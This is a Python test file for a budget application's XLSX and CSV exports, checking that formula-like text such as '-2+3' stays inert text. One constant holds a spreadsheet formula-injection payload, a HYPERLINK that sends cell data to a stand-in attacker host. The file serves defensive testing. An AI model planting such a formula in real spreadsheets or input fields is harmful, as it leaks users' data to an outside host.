"""A typed text in the budget exports stays text (formula injection, OWASP)."""

import csv
import io

from openpyxl import load_workbook

from budget.models import Category

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def test_xlsx_and_csv_write_a_formula_like_text_as_text(clerk_a_client, ward_a, line_a):
    ward_a.name = EVIL
    ward_a.save(update_fields=["name"])
    Category.objects.filter(pk=line_a.category_id).update(code="-2+3")
    response = clerk_a_client.get(f"/budget/units/{ward_a.pk}/export.xlsx?year=2022")
    sheet = load_workbook(io.BytesIO(response.content)).active
    title = sheet["A1"]
    assert title.data_type == "s" and title.value.startswith(EVIL)
    code = next(c for c in sheet["B"] if c.value == "-2+3")
    assert code.data_type == "s"

    response = clerk_a_client.get(f"/budget/units/{ward_a.pk}/export.csv?year=2022")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0].startswith("'" + EVIL)
    assert any(row[1:2] == ["'-2+3"] for row in rows)
